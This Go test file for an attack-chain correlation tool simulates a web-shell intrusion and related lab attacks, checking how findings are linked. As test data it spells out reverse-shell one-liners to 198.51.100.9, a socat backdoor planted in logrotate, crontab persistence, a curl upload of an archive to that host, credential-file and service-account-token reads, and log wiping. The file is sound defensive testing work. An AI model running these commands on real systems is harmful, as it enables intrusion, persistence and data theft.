package timeline

import (
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

const (
	attacker = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
	visitor  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0.0.0"
	probe    = "kube-probe/1.29"
)

// webShellScene is the lab attack in small: an upload of shell.php, two
// commands through it (the second a reverse shell whose children run
// commands), and a health check's benign "sh -c date" from the same
// workers in between. withHTTP adds the access log.
type webShellScene struct {
	s                                *sim
	upload, cmdID, revShell, inShell *detect.Finding
	benign                           []*detect.Finding
}

func newWebShellScene(t *testing.T, withHTTP bool) *webShellScene {
	s := newSim(t, Options{})
	s.webServer()
	sc := &webShellScene{s: s}
	if withHTTP {
		for i, p := range []string{"/robots.txt", "/admin/", "/.git/HEAD", "/.env"} {
			s.http(40+float64(i)*0.3, "GET", p, 404, "203.0.113.7", attacker)
		}
	}
	// the health check every 10 s: php-fpm → sh -c date, in the docroot
	for i := 0; i < 6; i++ {
		at := 30 + float64(i)*10
		w := worker1
		if i%2 == 1 {
			w = worker2
		}
		sh := shellOf(300+i, w, "/var/www/html")
		if withHTTP {
			s.http(at, "GET", "/status.php", 200, "10.0.0.2", probe)
		}
		sc.benign = append(sc.benign, s.find(s.exec(at+0.05, sh, "sh", "-c", "date -u"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
	}
	// the upload: php stores the temp file, renames it into uploads/
	if withHTTP {
		s.http(52, "POST", "/upload.php", 200, "203.0.113.7", attacker)
	}
	s.write(52.2, worker2, parser.KindFileWrite, "/tmp/php4mkCOp")
	sc.upload = s.find(s.write(52.27, worker2, parser.KindRename, "/var/www/html/uploads/shell.php"), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
	// cmd=id
	if withHTTP {
		s.http(55, "GET", "/uploads/shell.php?cmd=id", 200, "203.0.113.7", attacker)
	}
	sh := shellOf(200, worker2, "/var/www/html/uploads")
	sc.cmdID = s.find(s.exec(55.28, sh, "sh", "-c", "id 2>&1"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	s.exec(55.29, child(201, sh), "id")
	s.exit(55.3, child(201, sh))
	s.exit(55.31, sh)
	// the reverse shell, logged by nginx when the attacker closes it (499)
	rs := shellOf(210, worker1, "/var/www/html/uploads")
	sc.revShell = s.find(s.exec(68.39, rs, "sh", "-c", "bash -c 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1' 2>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
	b1 := child(211, rs)
	s.exec(68.39, b1, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1")
	b2 := child(212, b1)
	s.connect(68.4, b2, "198.51.100.9", 4444)
	sc.inShell = s.find(s.exec(71.4, child(213, b2), "hostname"), detect.StageCommandAndControl, detect.SeverityMedium, "Command Run Inside A Reverse Shell")
	if withHTTP {
		s.http(71.9, "GET", "/uploads/shell.php?cmd=bash+-c+%27bash+-i+%3e%26+%2fdev%2ftcp%2f198.51.100.9%2f4444+0%3e%261%27", 499, "203.0.113.7", attacker)
	}
	return sc
}

func TestAncestryJoinsWebShellNotWorker(t *testing.T) {
	for _, withHTTP := range []bool{false, true} {
		name := "audit-only"
		if withHTTP {
			name = "with-access-log"
		}
		t.Run(name, func(t *testing.T) {
			sc := newWebShellScene(t, withHTTP)
			r := sc.s.build()
			c := chainOf(r, sc.revShell)
			if c == nil || c.ID != "C01" {
				dumpChains(t, r)
				t.Fatalf("the reverse shell is not in the leading chain")
			}
			for _, f := range []*detect.Finding{sc.upload, sc.cmdID, sc.inShell} {
				if chainOf(r, f) != c {
					dumpChains(t, r)
					t.Errorf("%s (pid %d) not in the attack chain", f.Title, f.Event.PID)
				}
			}
			for _, f := range sc.benign {
				if chainOf(r, f) == c {
					dumpChains(t, r)
					t.Fatalf("benign sh -c date (pid %d) was swallowed into the attack chain", f.Event.PID)
				}
			}
			if !hasLink(c, "ancestry:", "pid 210 (sh) spawned by php-fpm8.2 pid 101") {
				t.Errorf("no ancestry link for the reverse shell root; links: %q", c.Links)
			}
			var roots []int
			for _, p := range c.Roots {
				roots = append(roots, p.Key.PID)
			}
			if !containsInt(roots, 200) || !containsInt(roots, 210) || containsInt(roots, 101) || containsInt(roots, 102) {
				t.Errorf("roots %v: want the shells 200 and 210, never a worker", roots)
			}
			if !containsProc(c.Processes, 213) {
				t.Errorf("processes of the chain lack pid 213 (run inside the reverse shell)")
			}
			if withHTTP {
				if !hasLink(c, "file:", "served as /uploads/shell.php") {
					t.Errorf("no served-file link; links: %q", c.Links)
				}
			} else if !hasLink(c, "file:", "ran in /var/www/html/uploads, where shell.php had been written") {
				t.Errorf("no cwd link to the uploaded script; links: %q", c.Links)
			}
			// stage 1 is inferred from the later web stages
			s1 := c.Stages[0]
			if !s1.Observed {
				t.Fatalf("stage 1 not observed: %+v", s1)
			}
			if !withHTTP && (s1.Confidence != ConfidenceInferred || !strings.Contains(s1.Reason, "no access log")) {
				t.Errorf("stage 1 without an access log: confidence %q reason %q", s1.Confidence, s1.Reason)
			}
			if withHTTP && (s1.Confidence != ConfidenceObserved || len(s1.Requests) < 3) {
				t.Errorf("stage 1 with the access log: confidence %q, %d requests; want the 404 burst", s1.Confidence, len(s1.Requests))
			}
		})
	}
}

func TestHTTPCausality(t *testing.T) {
	sc := newWebShellScene(t, true)
	r := sc.s.build()
	c := chainOf(r, sc.cmdID)
	got := map[string]RequestLink{}
	for _, rl := range c.Requests {
		got[describeRequest(rl.Request)] = rl
	}
	id, ok := got["GET /uploads/shell.php?cmd=id"]
	if !ok || id.Process.Key.PID != 200 || id.Worker.Key.PID != 102 || id.Confidence != ConfidenceHigh {
		t.Errorf("cmd=id request link = %+v, want → php-fpm 102 → sh 200 with high confidence", id)
	}
	// logged 3.5 s after the exec (status 499): only the parameters tie it
	rs, ok := got["GET /uploads/shell.php?cmd=bash+-c+%27bash+-i+%3e%26+%2fdev%2ftcp%2f198.51.100.9%2f4444+0%3e%261%27"]
	if !ok || rs.Process.Key.PID != 210 || rs.Confidence != ConfidenceHigh {
		t.Errorf("reverse-shell request link = %+v", rs)
	}
	up, ok := got["POST /upload.php"]
	if !ok || up.File != "/var/www/html/uploads/shell.php" || up.Confidence != ConfidenceMedium {
		t.Errorf("upload request link = %+v", up)
	}
	if s2 := c.Stages[1]; len(s2.Requests) != 1 || describeRequest(s2.Requests[0]) != "POST /upload.php" {
		t.Errorf("stage 2 requests = %v, want the upload POST", s2.Requests)
	}
	for _, req := range c.Stages[0].Requests {
		if req.HTTP.UserAgent != attacker {
			t.Errorf("stage 1 holds another client's request %s", describeRequest(req))
		}
	}
	// the health check's shells are tied to /status.php and kept apart
	b := chainOf(r, sc.benign[0])
	if b == c {
		t.Fatal("benign chain merged")
	}
	if !hasLink(b, "request:", "GET /status.php") {
		t.Errorf("benign chain lacks its request link: %q", b.Links)
	}
}

func TestReparentedOrphan(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	root := shellOf(400, worker1, "/var/www/html/uploads")
	first := s.find(s.exec(10, root, "sh", "-c", "nohup /tmp/.x &"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Nohup From Web Shell")
	orphan := child(401, root)
	s.exec(10.1, orphan, "/tmp/.x")
	s.exit(10.2, root)
	// the parent died: the orphan's records now say ppid=1
	o := orphan
	o.ppid = 1
	o.exe = "/tmp/.x"
	late := s.find(s.connect(600, o, "198.51.100.9", 8443), detect.StageCommandAndControl, detect.SeverityHigh, "Beacon")
	if !late.Process.Reparented {
		t.Fatal("tree did not mark the orphan re-parented")
	}
	r := s.build()
	if chainOf(r, late) != chainOf(r, first) {
		dumpChains(t, r)
		t.Fatal("the orphan's beacon left the chain of the shell that started it")
	}
	if !hasLink(chainOf(r, late), "ancestry:", "re-parented") {
		t.Errorf("no re-parenting note: %q", chainOf(r, late).Links)
	}
}

func TestPIDReuse(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	root := shellOf(500, worker1, "/var/www/html/uploads")
	a := s.find(s.exec(10, root, "sh", "-c", "curl -o /tmp/t http://198.51.100.9/t"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Download")
	// inside the chain: pid 501 used twice by the same shell
	c1 := child(501, root)
	b := s.find(s.exec(11, c1, "id"), detect.StageCommandExecution, detect.SeverityLow, "Discovery")
	s.exit(11.1, c1)
	c2 := child(501, root)
	c2.ppid = 500
	d := s.find(s.exec(12, c2, "uname", "-a"), detect.StageCommandExecution, detect.SeverityLow, "Discovery")
	s.exit(13, root)
	// after the shell exited, pid 500 is reused by an unrelated login shell
	alice := who{pid: 500, ppid: 650, uid: 1000, auid: parser.NewID(1000), ses: parser.NewID(7), user: "alice"}
	s.touch(20, who{pid: 650, ppid: 60, uid: 0, exe: "/usr/sbin/sshd"})
	e := s.find(s.exec(21, alice, "bash"), detect.StageCommandExecution, detect.SeverityLow, "Interactive Shell")
	r := s.build()
	ca := chainOf(r, a)
	wantIn(t, r, ca, "both processes with pid 501 under the shell belong to its chain", b, d)
	wantOut(t, r, ca, "a reused pid joined the chain of the pid's earlier owner", e)
}

func TestCronLink(t *testing.T) {
	s, root, rev := reverseShellScene(t)
	ct := child(230, root)
	inst := s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
	s.write(20.1, ct, parser.KindFileWrite, "/var/spool/cron/crontabs/tmp.X1")
	s.write(20.1, ct, parser.KindRename, "/var/spool/cron/crontabs/www-data")
	// a root cron job of the host, benign, runs at the same minute
	rootJob := who{pid: 240, ppid: 239, uid: 0, auid: parser.NewID(0), ses: parser.NewID(20)}
	s.touch(60, child(239, cronD))
	benign := s.find(s.exec(60.1, rootJob, "sh", "-c", "/usr/local/sbin/housekeeping"), detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
	// cron forks, the child runs www-data's job; it connects back on another port
	s.touch(60, child(249, cronD))
	job := who{pid: 250, ppid: 249, uid: 33, auid: parser.NewID(33), ses: parser.NewID(21)}
	beacon := s.find(s.exec(60.2, job, "sh", "-c", "/bin/bash -c \"bash -i >& /dev/tcp/198.51.100.9/4445 0>&1\""), detect.StageCommandAndControl, detect.SeverityHigh, "Cron Beacon")
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "the beacon of the crontab the chain installed is not in the chain", inst, beacon)
	if chainOf(r, benign) == c {
		t.Fatal("root's own cron job joined the chain")
	}
	if !hasLink(c, "cron:", "crontab of www-data") {
		t.Errorf("no cron link: %q", c.Links)
	}
	if s5 := c.Stages[4]; !s5.Observed || s5.Findings[0] != inst {
		t.Errorf("stage 5 = %+v", s5)
	}
}

// A cron job runs the crontab in force when it starts: once the admin has
// replaced www-data's crontab, later jobs are no longer the attacker's.
func TestCronLinkNewestInstall(t *testing.T) {
	s, root, rev := reverseShellScene(t)
	ct := child(230, root)
	s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
	s.touch(60, child(249, cronD))
	before := s.find(s.exec(60.2, who{pid: 250, ppid: 249, uid: 33, auid: parser.NewID(33), ses: parser.NewID(21)}, "sh", "-c", "/tmp/.k"), detect.StageCommandAndControl, detect.SeverityHigh, "Cron Beacon")
	// the admin restores www-data's crontab from a backup
	s.exec(100, who{pid: 300, ppid: 1, uid: 0, user: "root"}, "crontab", "-u", "www-data", "/root/www-data.cron")
	s.touch(160, child(349, cronD))
	after := s.find(s.exec(160.2, who{pid: 350, ppid: 349, uid: 33, auid: parser.NewID(33), ses: parser.NewID(22)}, "sh", "-c", "/usr/local/bin/cleanup"), detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "the job of the attacker's crontab is not in the chain", before)
	wantOut(t, r, c, "a job run after the admin replaced the crontab joined the chain", after)
}

// A crontab install keeps the jobs that were in the table: an
// application rewriting its managed block (benign-shop-spokeworks) did not
// add the photo watcher cron ran before it with the very same command
// line; a job first run after the install is what the install added.
func TestCronLinkKeptJob(t *testing.T) {
	s, root, rev := reverseShellScene(t)
	kept := []string{"sh", "-c", "/usr/bin/flock -n /tmp/w.lock /usr/local/lib/shop/photo-watch"}
	s.touch(5, child(149, cronD))
	s.find(s.exec(5.2, who{pid: 150, ppid: 149, uid: 33, auid: parser.NewID(33), ses: parser.NewID(20)}, kept...), detect.StageCommandExecution, detect.SeverityMedium, "Cron Job")
	ct := child(230, root)
	s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
	s.touch(60, child(249, cronD))
	again := s.find(s.exec(60.2, who{pid: 250, ppid: 249, uid: 33, auid: parser.NewID(33), ses: parser.NewID(21)}, kept...), detect.StageCommandExecution, detect.SeverityMedium, "Cron Job")
	s.touch(60, child(259, cronD))
	added := s.find(s.exec(60.3, who{pid: 260, ppid: 259, uid: 33, auid: parser.NewID(33), ses: parser.NewID(22)}, "sh", "-c", "/tmp/.k"), detect.StageCommandAndControl, detect.SeverityHigh, "Cron Beacon")
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "the job the install added is not in the chain", added)
	wantOut(t, r, c, "a job that ran before the install joined the install's chain", again)
}

func TestPeerLink(t *testing.T) {
	s, _, rev := reverseShellScene(t)
	// a unit-level systemd service, started later by someone, connects to
	// the same endpoint: the attacker's second foothold
	svc := who{pid: 800, ppid: 1, uid: 0, exe: "/usr/local/bin/upd"}
	again := s.find(s.connect(300, svc, "198.51.100.9", 4444), detect.StageCommandAndControl, detect.SeverityHigh, "Outbound Connection")
	// an unrelated tool talking to its update server
	other := s.find(s.connect(310, who{pid: 900, ppid: 1, uid: 0, exe: "/usr/bin/apt"}, "192.0.2.80", 443), detect.StageExfiltrationImpact, detect.SeverityLow, "Outbound Connection")
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "a second use of the reverse shell's peer was not linked", again)
	if chainOf(r, other) == c {
		t.Fatal("an unrelated peer was linked")
	}
	if !hasLink(c, "peer:", "198.51.100.9:4444") {
		t.Errorf("no peer link: %q", c.Links)
	}
}

// sshScene: the chain's ssh client logs in as deploy over loopback; the
// admin alice logs in from loopback too, half a minute earlier.
func sshScene(t *testing.T, withAccept bool) (s *sim, rev, deployID, aliceCmd *detect.Finding) {
	s = newSim(t, Options{})
	s.webServer()
	// alice
	if withAccept {
		s.accept(30, sshD, "127.0.0.1", 51476)
	}
	a1 := who{pid: 650, ppid: 60, uid: 0, exe: "/usr/sbin/sshd"}
	s.touch(30.1, a1)
	s.login(30.2, "LOGIN", 650, 2002, 11, "alice", "")
	s.login(30.3, "USER_START", 650, 2002, 11, "alice", "127.0.0.1")
	alice := who{pid: 652, ppid: 650, uid: 2002, auid: parser.NewID(2002), ses: parser.NewID(11), user: "alice"}
	aliceCmd = s.find(s.exec(30.5, alice, "uptime"), detect.StageCommandExecution, detect.SeverityLow, "Discovery")
	// the attacker's ssh client, from inside the reverse shell
	root := shellOf(200, worker1, "/var/www/html/uploads")
	rev = s.find(s.exec(50, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
	cl := child(260, root)
	s.exec(60, cl, "ssh", "-i", "/tmp/.k", "deploy@127.0.0.1", "id")
	s.connect(60.008, cl, "127.0.0.1", 22)
	if withAccept {
		s.accept(60.008, sshD, "127.0.0.1", 38388)
	}
	d1 := who{pid: 661, ppid: 60, uid: 0, exe: "/usr/sbin/sshd"}
	s.touch(60.01, d1)
	s.login(60.18, "LOGIN", 661, 2003, 13, "deploy", "")
	s.login(60.19, "USER_START", 661, 2003, 13, "deploy", "127.0.0.1")
	dep := who{pid: 663, ppid: 661, uid: 2003, auid: parser.NewID(2003), ses: parser.NewID(13), user: "deploy"}
	s.exec(60.2, dep, "bash", "-c", "id")
	deployID = s.find(s.exec(60.22, child(664, dep), "id"), detect.StageLateralMovement, detect.SeverityHigh, "Command In A Session Opened From The Web Account")
	return s, rev, deployID, aliceCmd
}

func TestSSHLateralMovement(t *testing.T) {
	for _, withAccept := range []bool{true, false} {
		name := "accept-records"
		if !withAccept {
			name = "logins-only"
		}
		t.Run(name, func(t *testing.T) {
			s, rev, dep, alice := sshScene(t, withAccept)
			r := s.build()
			c := chainOf(r, rev)
			wantIn(t, r, c, "deploy's session opened by the chain's ssh client is not in the chain", dep)
			wantOut(t, r, c, "the admin's login from the same address joined the chain", alice)
			want := "pid 60 (sshd)'s accept from 127.0.0.1:38388"
			if !withAccept {
				want = "the only ssh login from 127.0.0.1"
			}
			if !hasLink(c, "ssh: session 13 (deploy)", want) {
				t.Errorf("ssh link missing %q: %q", want, c.Links)
			}
		})
	}
}

func TestContainerLink(t *testing.T) {
	s := newSim(t, Options{})
	id := "4f3c2b1a0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b"
	shim := who{pid: 900, ppid: 1, uid: 0}
	s.exec(0, shim, "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", id, "-address", "/run/containerd/containerd.sock")
	app := who{pid: 901, ppid: 900, uid: 0}
	s.exec(0.1, app, "/usr/local/bin/app")
	a := s.find(s.exec(10, who{pid: 910, ppid: 900, uid: 0}, "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Secret Read")
	b := s.find(s.connect(20, who{pid: 920, ppid: 900, uid: 0, exe: "/usr/bin/curl"}, "192.0.2.10", 6443), detect.StageLateralMovement, detect.SeverityHigh, "API Server Contact")
	low := s.find(s.exec(25, who{pid: 930, ppid: 900, uid: 0}, "ls"), detect.StageCommandExecution, detect.SeverityLow, "Listing")
	late := s.find(s.exec(20+3600, who{pid: 940, ppid: 900, uid: 0}, "sh", "-c", "wget http://x/y"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Download")
	r := s.build()
	c := chainOf(r, a)
	wantIn(t, r, c, "two high findings in one container within the gap were not linked", b)
	wantOut(t, r, c, "a low finding, or one an hour later, joined by container alone", low, late)
	if c.Container.ID != id {
		t.Errorf("chain container %q", c.Container.ID)
	}
	if !hasLink(c, "container:", id[:12]) {
		t.Errorf("no container link: %q", c.Links)
	}
}

func TestTwoIntrusionsAndRanking(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	// intrusion A: a web shell with a reverse shell and exfiltration
	root := shellOf(200, worker1, "/var/www/html/uploads")
	a1 := s.find(s.exec(100, root, "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Shell")
	a2 := s.find(s.exec(101, child(201, root), "curl", "-T", "/tmp/d.tgz", "http://198.51.100.9:8000/"), detect.StageExfiltrationImpact, detect.SeverityHigh, "Exfil")
	// intrusion B, earlier: a stolen ssh key used for a session that plants a key (critical, one stage)
	bob := who{pid: 700, ppid: 699, uid: 1001, auid: parser.NewID(1001), ses: parser.NewID(30), user: "bob"}
	s.touch(10, who{pid: 699, ppid: 60, uid: 0, exe: "/usr/sbin/sshd"})
	b1 := s.find(s.write(11, bob, parser.KindFileWrite, "/root/.ssh/authorized_keys"), detect.StagePersistence, detect.SeverityHigh, "Key Planted")
	b2 := s.find(s.exec(12, child(701, bob), "id"), detect.StageCommandExecution, detect.SeverityLow, "Discovery")
	// a lone low finding
	lone := s.find(s.exec(5, who{pid: 800, ppid: 1, uid: 0}, "nc", "-h"), detect.StageNone, detect.SeverityLow, "Netcat")
	r := s.build()
	ca, cb := chainOf(r, a1), chainOf(r, b1)
	if ca == cb || chainOf(r, a2) != ca || chainOf(r, b2) != cb {
		dumpChains(t, r)
		t.Fatal("two intrusions mixed")
	}
	// same severity (high): A reaches more stages (1 inferred, 3, 8) than B (3, 5)
	if ca.ID != "C01" || cb.ID != "C02" || chainOf(r, lone).ID != "C03" {
		dumpChains(t, r)
		t.Fatalf("ranking: A=%s B=%s lone=%s", ca.ID, cb.ID, chainOf(r, lone).ID)
	}
	if ca.Score <= cb.Score || cb.Score <= chainOf(r, lone).Score {
		t.Errorf("scores %d, %d, %d not decreasing", ca.Score, cb.Score, chainOf(r, lone).Score)
	}
	// B went through sshd, not a web server: no stage 1 inference
	if cb.Stages[0].Observed {
		t.Errorf("stage 1 inferred for a non-web chain: %+v", cb.Stages[0])
	}
	// a critical finding outranks any number of stages
	crit := s.find(s.exec(400, who{pid: 990, ppid: 1, uid: 0}, "shred", "-u", "/var/log/auth.log"), detect.StageExfiltrationImpact, detect.SeverityCritical, "Log Wiped")
	r = s.build()
	if c := chainOf(r, crit); c.ID != "C01" {
		t.Errorf("critical chain ranked %s", c.ID)
	}
}

func TestDeterministic(t *testing.T) {
	render := func(reverse bool) string {
		sc := newWebShellScene(t, true)
		if reverse {
			fs := sc.s.findings
			for i, j := 0, len(fs)-1; i < j; i, j = i+1, j-1 {
				fs[i], fs[j] = fs[j], fs[i]
			}
		}
		r := sc.s.build()
		var b strings.Builder
		for _, c := range r.Chains {
			b.WriteString(c.ID + "\n")
			for _, f := range c.Findings {
				b.WriteString(f.Title + " " + f.Time.String() + "\n")
			}
			for _, l := range c.Links {
				b.WriteString(l + "\n")
			}
			for _, s := range c.Stages {
				b.WriteString(string(s.Visibility) + " " + s.Confidence + " " + s.Reason + "\n")
			}
		}
		return b.String()
	}
	a, b := render(false), render(true)
	if a != b {
		t.Fatalf("output depends on the order of the findings:\n%s\n----\n%s", a, b)
	}
	for i := 0; i < 5; i++ {
		if render(false) != a {
			t.Fatal("output differs between runs")
		}
	}
}

func containsInt(xs []int, x int) bool {
	for _, v := range xs {
		if v == x {
			return true
		}
	}
	return false
}

func containsProc(ps []*parser.Process, pid int) bool {
	for _, p := range ps {
		if p.Key.PID == pid {
			return true
		}
	}
	return false
}

// TestCallbackLink: a logrotate line the chain planted names where a
// socat shell connects; cron's logrotate fires it later, with no web
// server above it. The callback joins the plant's chain, and what runs
// on it (an ssh with the app's key) with it (press-ssti).
func TestCallbackLink(t *testing.T) {
	s, root, rev := reverseShellScene(t)
	ed := child(230, root)
	plantEv := s.exec(20, ed, "sed", "-i", `/postrotate/a\ socat OPENSSL-CONNECT:198.51.100.9:8443 EXEC:/bin/sh`, "/etc/logrotate.d/app")
	plant := s.find(plantEv, detect.StagePersistence, detect.SeverityHigh, "Web Persistence Edit Command")
	s.touch(60, child(249, cronD))
	rot := who{pid: 250, ppid: 249, uid: 0, auid: parser.NewID(0), ses: parser.NewID(21)}
	s.exec(60.1, rot, "/usr/sbin/logrotate", "/etc/logrotate.conf")
	sock := who{pid: 252, ppid: 1, uid: 0, auid: parser.NewID(0), ses: parser.NewID(21)}
	s.exec(60.3, sock, "socat", "OPENSSL-CONNECT:198.51.100.9:8443", "EXEC:/bin/sh")
	conn := s.connect(60.4, sock, "198.51.100.9", 8443)
	cb := s.find(conn, detect.StageCommandAndControl, detect.SeverityHigh, "Backdoor Callback")
	cb.Related = append(cb.Related, plantEv)
	// a root job of the host at the same minute, not planted by anyone
	other := s.find(s.exec(60.2, who{pid: 260, ppid: 249, uid: 0, auid: parser.NewID(0), ses: parser.NewID(22)}, "sh", "-c", "/usr/local/sbin/housekeeping"),
		detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "the callback of the chain's logrotate plant is not in the chain", plant, cb)
	if chainOf(r, other) == c {
		t.Error("an unrelated root cron job joined the chain")
	}
	if !hasLink(c, "callback:", "198.51.100.9:8443") {
		t.Errorf("no callback link: %q", c.Links)
	}
}

// TestSessionBelowServerNoLink: an administrator who restarted the web
// server from her ssh login leaves her auid and session on every worker
// and on all they spawn (cuspid-labelfmt, benign-cuspid); the attacker's
// shell and a customer's delivery note under the same server share that
// session and are no more related for it. A process outside the server
// in the same session is still joined by it.
func TestSessionBelowServerNoLink(t *testing.T) {
	s := newSim(t, Options{})
	sess := func(w who) who { w.auid, w.ses = parser.NewID(2002), parser.NewID(748); return w }
	master, w1, w2 := sess(fpmMaster), sess(worker1), sess(worker2)
	s.touch(0, master)
	s.touch(0, w1)
	s.touch(0, w2)
	attack := s.exec(10, sess(shellOf(500, w1, "/var/www")), "sh", "-c", "id; uname -a")
	note := s.exec(20, sess(shellOf(510, w2, "/var/www")), "sh", "-c", "groff -ms n.ms | ps2pdf - n.pdf")
	admin := s.exec(30, sess(who{pid: 600, ppid: 1, uid: 0, cwd: "/root"}), "cat", "/etc/shadow")
	admin2 := s.exec(31, sess(who{pid: 601, ppid: 1, uid: 0, cwd: "/root"}), "curl", "-T", "/tmp/x", "http://127.0.0.1:9/")
	fa := s.find(attack, detect.StageCommandExecution, detect.SeverityHigh, "Exploitation")
	fn := s.find(note, detect.StageCommandExecution, detect.SeverityMedium, "Shell Spawn")
	f1 := s.find(admin, detect.StageSuspiciousSpawn, detect.SeverityMedium, "Shadow")
	f2 := s.find(admin2, detect.StageExfiltrationImpact, detect.SeverityMedium, "Upload")
	r := s.build()
	if c := chainOf(r, fa); c != nil && chainOf(r, fn) == c {
		dumpChains(t, r)
		t.Fatal("the attacker's shell and the delivery note joined: the session below a web server ties nothing")
	}
	if c := chainOf(r, f1); c == nil || chainOf(r, f2) != c || !hasLink(c, "session: ", "ses 748") {
		dumpChains(t, r)
		t.Error("two acts of the login session itself, outside the server: want them joined by the session")
	}
}
